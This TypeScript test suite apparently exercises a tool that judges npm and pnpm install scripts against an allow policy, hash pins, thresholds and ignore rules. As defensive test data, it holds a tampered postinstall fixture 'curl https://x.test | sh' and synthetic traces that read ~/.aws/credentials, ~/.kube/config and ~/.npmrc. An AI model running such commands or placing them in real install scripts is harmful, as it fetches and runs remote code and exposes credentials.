import { importScriptAllowances } from './interop/import-script-allowances.js';
import { defaultPolicy, resolvePolicy } from './resolve-policy.js';
import { RULES } from './rule-catalog.js';
import { CONTEXT, DECOYS, EMPTY_POLICY, findingsOf, HOME, judge, NM, policyFrom, PROJECT, sha256, summary, Trace } from './testing/synthetic-trace.js';
import { evaluate } from './evaluate.js';

function esbuildScript(t: Trace, version = '0.25.12', command = 'node install.js'): void {
  t.script(`esbuild@${version}`, 'postinstall', command).run('/usr/local/bin/node', ['node', 'install.js']);
}

describe('script-not-allowed', () => {
  it('is info when there is no policy at all, so a first run passes and can be learned from', () => {
    const t = new Trace();
    esbuildScript(t);
    const result = judge(t, defaultPolicy());
    expect(summary(result)).toEqual(['script-not-allowed:info']);
    expect(result.verdict).toBe('pass');
    expect(result.warnings).toEqual(['no policy: install scripts were reported, not judged; `safe-install policy learn` writes one from this trace']);
  });

  it('is high when a policy exists and does not allow the package', () => {
    const t = new Trace();
    esbuildScript(t);
    const result = judge(t, EMPTY_POLICY());
    const [f] = result.findings;
    expect(f).toMatchObject({ ruleId: 'script-not-allowed', severity: 'high', message: 'ran its postinstall script `node install.js`, which no policy entry allows' });
    expect(result.verdict).toBe('fail');
  });

  it('is high when the policy denies it, whatever else allows it', () => {
    const t = new Trace();
    esbuildScript(t);
    const policy = policyFrom('version: 1\npackages:\n  esbuild: false\n  esbuild@0.25.12: true\n');
    expect(findingsOf(judge(t, policy), 'script-not-allowed')[0]?.message).toBe(
      'ran its postinstall script `node install.js`, which safe-install.config.yaml (policy) denies',
    );
  });

  it.each([
    ['esbuild', true],
    ['esbuild@0.25.12', true],
    ['esbuild@^0.25.0', true],
    ['esbuild@~0.24.0', false],
    ['esbuild@0.25.11', false],
  ])('an entry %s allows esbuild@0.25.12: %s', (spec, allowed) => {
    const t = new Trace();
    esbuildScript(t);
    const result = judge(t, policyFrom(`version: 1\npackages:\n  "${spec}": true\n`));
    expect(result.findings.length === 0).toBe(allowed);
  });

  it('never applies to the project\'s own scripts (root and workspaces)', () => {
    const t = new Trace();
    t.script('app@1.0.0', 'prepare', 'husky', { cwd: PROJECT });
    t.script('@app/ui@1.0.0', 'prepare', 'tsc', { cwd: `${PROJECT}/packages/ui` });
    expect(judge(t, EMPTY_POLICY()).findings).toEqual([]);
  });

  it('under npm 11, a script npm allowScripts does not list is unreviewed (info), judged by what it does', () => {
    const t = new Trace();
    esbuildScript(t);
    t.script('core-js@3.45.1', 'postinstall', 'node postinstall').run('/usr/local/bin/node', ['node', 'postinstall']).read(`${HOME}/.npmrc`);
    const interop = importScriptAllowances({ packageJson: { allowScripts: { 'esbuild@0.25.12': true } }, pnpmWorkspace: null });
    const policy = resolvePolicy({ interop }).value ?? defaultPolicy();
    expect(policy.unlistedScripts).toBe('unreviewed');
    const result = evaluate({ events: t.events, policy, decoys: DECOYS, context: { ...CONTEXT, npmVersion: '11.19.1' } });
    expect(result.findings.map((f) => [f.ruleId, f.severity, f.package?.name]).sort()).toEqual([
      ['decoy-credential-read', 'high', 'core-js'],
      ['script-not-allowed', 'info', 'core-js'],
    ]);
    const unreviewed = findingsOf(result, 'script-not-allowed')[0];
    expect(unreviewed?.message).toContain('unreviewed: package.json allowScripts does not list it');
    expect(unreviewed?.hint).toBe('approve it with `npm install-scripts approve core-js` (allowScripts entry "core-js@3.45.1": true), or deny it with `npm install-scripts deny core-js`');
  });

  it('under npm 12 an unlisted script that ran anyway stays high; so does one a safe-install policy or pnpm leaves out', () => {
    const t = new Trace();
    t.script('core-js@3.45.1', 'postinstall', 'node postinstall');
    const npmOnly = resolvePolicy({ interop: importScriptAllowances({ packageJson: { allowScripts: { esbuild: true } }, pnpmWorkspace: null }) }).value ?? defaultPolicy();
    const npm12 = evaluate({ events: t.events, policy: npmOnly, decoys: DECOYS, context: { ...CONTEXT, npmVersion: '12.2.0' } });
    expect(npm12.findings.map((f) => [f.ruleId, f.severity])).toEqual([['script-not-allowed', 'high']]);
    expect(npm12.findings[0]?.message).toContain('npm 12 skips such scripts, yet it ran');
    const withFile = resolvePolicy({ document: { version: 1, packages: { esbuild: true } }, interop: importScriptAllowances({ packageJson: { allowScripts: { esbuild: true } }, pnpmWorkspace: null }) }).value ?? defaultPolicy();
    expect(judge(t, withFile).findings.map((f) => f.severity)).toEqual(['high']);
    const pnpm = resolvePolicy({ interop: importScriptAllowances({ packageJson: null, pnpmWorkspace: { onlyBuiltDependencies: ['esbuild'] } }) }).value ?? defaultPolicy();
    expect(judge(t, pnpm).findings.map((f) => f.severity)).toEqual(['high']);
  });

  it('pnpm dangerouslyAllowAllBuilds allows every package', () => {
    const t = new Trace();
    esbuildScript(t);
    const interop = importScriptAllowances({ packageJson: null, pnpmWorkspace: { dangerouslyAllowAllBuilds: true } });
    expect(judge(t, resolvePolicy({ interop }).value ?? defaultPolicy()).findings).toEqual([]);
  });
});

describe('script-hash-mismatch', () => {
  it('passes a script that matches its pin (hex in any case)', () => {
    const t = new Trace();
    esbuildScript(t);
    const policy = policyFrom(`version: 1\npackages:\n  esbuild:\n    scripts:\n      postinstall: sha256:${sha256('node install.js').toUpperCase()}\n`);
    expect(judge(t, policy).findings).toEqual([]);
  });

  it('fires when the script changed, or a lifecycle that has no pin ran', () => {
    const t = new Trace();
    esbuildScript(t, '0.25.12', 'node install.js && curl https://x.test | sh');
    t.script('esbuild@0.25.12', 'preinstall', 'node pre.js');
    const policy = policyFrom(`version: 1\npackages:\n  esbuild:\n    scripts:\n      postinstall: [sha256:${sha256('node install.js')}]\n`);
    expect(findingsOf(judge(t, policy), 'script-hash-mismatch').map((f) => f.message)).toEqual([
      'ran a postinstall script that differs from the pinned one: `node install.js && curl https://x.test | sh`',
      'ran a preinstall script the policy has no pin for: `node pre.js`',
    ]);
  });
});

describe('verdict, thresholds and modes', () => {
  function traceWithMedium(): Trace {
    const t = new Trace();
    t.script('puppeteer@24.0.0', 'postinstall', 'node install.mjs').run('/usr/local/bin/node', ['node', 'install.mjs']).write('/opt/chrome/chrome');
    return t;
  }
  const base = 'version: 1\npackages:\n  puppeteer: true\n';

  it('block mode fails at or above failOn (default high)', () => {
    expect(judge(traceWithMedium(), policyFrom(base)).verdict).toBe('pass');
    expect(judge(traceWithMedium(), policyFrom(`${base}failOn: medium\n`)).verdict).toBe('fail');
  });

  it('audit mode never fails', () => {
    const t = new Trace();
    t.script('evil@1.0.0', 'postinstall', 'node x.js').run('/usr/local/bin/node', ['node', 'x.js']).read(`${HOME}/.aws/credentials`);
    const result = judge(t, policyFrom('version: 1\nmode: audit\nfailOn: info\n'));
    expect(result.findings.length).toBeGreaterThan(0);
    expect(result.verdict).toBe('pass');
  });

  it('environment overrides the file and flags override the environment', () => {
    const doc = { version: 1 as const, mode: 'audit' as const, failOn: 'low' as const };
    const env = { SAFE_INSTALL_MODE: 'block', SAFE_INSTALL_FAIL_ON: 'critical' };
    expect(resolvePolicy({ document: doc }).value).toMatchObject({ mode: 'audit', failOn: 'low' });
    expect(resolvePolicy({ document: doc, env }).value).toMatchObject({ mode: 'block', failOn: 'critical' });
    expect(resolvePolicy({ document: doc, env, overrides: { failOn: 'medium' } }).value).toMatchObject({ mode: 'block', failOn: 'medium' });
    expect(resolvePolicy({ document: doc, env, overrides: { failOn: 'medium' } }).value?.sources).toEqual([
      'built-in defaults',
      'policy',
      'SAFE_INSTALL_MODE=block',
      'SAFE_INSTALL_FAIL_ON=critical',
      '--fail-on medium',
    ]);
  });

  it('rejects bad environment values by name', () => {
    expect(resolvePolicy({ env: { SAFE_INSTALL_MODE: 'strict', SAFE_INSTALL_FAIL_ON: 'severe' } }).errors).toEqual([
      'SAFE_INSTALL_MODE must be block or audit, got "strict"',
      'SAFE_INSTALL_FAIL_ON must be one of info, low, medium, high, critical, got "severe"',
    ]);
  });
});

describe('ignore', () => {
  function trace(): Trace {
    const t = new Trace();
    t.script('left-pad@1.3.0', 'postinstall', 'node x.js').run('/usr/local/bin/node', ['node', 'x.js']).read(`${HOME}/.kube/config`);
    t.script('other@2.0.0', 'postinstall', 'node y.js').run('/usr/local/bin/node', ['node', 'y.js']).read(`${HOME}/.kube/config`);
    return t;
  }
  const allow = 'packages:\n  left-pad: true\n  other: true\n';

  it('moves matching findings to `suppressed` with the reason', () => {
    const policy = policyFrom(`version: 1\nfailOn: medium\n${allow}ignore:\n  - rule: credential-store-read\n    package: left-pad@^1.0.0\n    reason: reads the cluster name for its banner\n`);
    const result = judge(trace(), policy);
    expect(result.findings.map((f) => f.package?.name)).toEqual(['other']);
    expect(result.suppressed.map((s) => [s.finding.package?.name, s.reason])).toEqual([['left-pad', 'reads the cluster name for its banner']]);
    expect(result.verdict).toBe('fail');
  });

  it('without a package it accepts the rule for every package', () => {
    const policy = policyFrom(`version: 1\nfailOn: medium\n${allow}ignore:\n  - rule: credential-store-read\n    reason: the sandbox has no cluster\n    expires: 2026-06-01\n`);
    const result = judge(trace(), policy);
    expect(result.findings).toEqual([]);
    expect(result.verdict).toBe('pass');
  });

  it('an expired entry stops applying and says so', () => {
    const policy = policyFrom(`version: 1\nfailOn: medium\n${allow}ignore:\n  - rule: credential-store-read\n    reason: temporary\n    expires: 2026-05-31\n`);
    const result = judge(trace(), policy);
    expect(result.findings).toHaveLength(2);
    expect(result.warnings).toEqual(['safe-install.config.yaml: the ignore of credential-store-read expired on 2026-05-31 and no longer applies']);
    expect(result.verdict).toBe('fail');
  });
});

describe('findings', () => {
  it('group repeated behaviour, cap evidence, and keep the process chain', () => {
    const t = new Trace();
    const n = t.script('evil@1.0.0', 'postinstall', 'node x.js').run('/usr/local/bin/node', ['node', 'x.js']);
    const w = n.thread();
    for (let i = 0; i < 30; i++) w.read(`${HOME}/.kube/config`);
    const [f] = findingsOf(judge(t), 'credential-store-read');
    expect(f?.occurrences).toBe(30);
    expect(f?.evidence).toHaveLength(20);
    // The thread folds into its process: sh → node.
    expect(f?.chain?.map((s) => [s.pid, s.argv0])).toEqual([
      [100, '/bin/sh'],
      [n.pid, 'node'],
    ]);
  });

  it('sanitize untrusted strings', () => {
    const t = new Trace();
    t.script('evil@1.0.0', 'postinstall', 'node x.js').run('/usr/local/bin/node', ['node', 'x.js']).write('/opt/\u001b[2J\u202etxt.exe');
    const [f] = findingsOf(judge(t), 'write-outside-package');
    expect(f?.message).toBe('created /opt/\\x1b[2J\\u202etxt.exe — outside its own folder');
  });

  it('every rule in the catalog has an id, a severity, a title and a hint', () => {
    for (const rule of RULES) {
      expect(rule.id).toMatch(/^[a-z]+(?:-[a-z]+)*$/);
      expect(rule.title.length).toBeGreaterThan(20);
      expect(rule.hint.length).toBeGreaterThan(10);
    }
    expect(new Set(RULES.map((r) => r.id)).size).toBe(RULES.length);
  });

  it('handle a real-size trace quickly', () => {
    const t = new Trace();
    const n = t.script('big@1.0.0', 'postinstall', 'node x.js').run('/usr/local/bin/node', ['node', 'x.js']);
    for (let i = 0; i < 50_000; i++) n.read(`${NM}/big/lib/file${i}.js`);
    for (let i = 0; i < 50_000; i++) t.pm.write(`${NM}/dep${i}/index.js`);
    const start = performance.now();
    judge(t);
    expect(performance.now() - start).toBeLessThan(3000);
  });
});
